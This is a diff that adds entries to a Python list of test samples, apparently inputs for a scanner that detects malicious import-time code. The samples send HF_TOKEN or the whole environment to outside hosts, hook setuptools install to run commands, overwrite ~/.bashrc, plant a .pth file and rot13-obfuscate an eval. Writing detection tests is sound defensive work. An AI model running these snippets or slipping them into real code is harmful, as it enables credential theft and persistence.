@@ -101,6 +101,10 @@ ON_IMPORT = [
     "import os, urllib.request\nurllib.request.urlopen('http://example.org/?' + os.environ['HF_TOKEN'])",
     "from setuptools import setup, Command\nimport os\nclass I(Command):\n    def run(self):\n        os.system('id')\n"  # noqa: ISC004
     "setup(cmdclass={'install': I})",
+    "import os, urllib.request as u\nu.urlopen(u.Request('http://x', data=bytes(str(os.environ))))",
+    "from pathlib import Path\nPath('~/.bashrc').expanduser().write_text('x')",
+    "import shutil\nshutil.copy('x', '/usr/lib/python3/site-packages/x.pth')",
+    "import asyncio\nasync def f():\n    await asyncio.create_subprocess_shell('id')\nasyncio.run(f())",
     "import codecs\neval(codecs.decode('__vzcbeg__(\"bf\").flfgrz(\"vq\")', 'rot13'))",
 ]  # fmt: skip
 
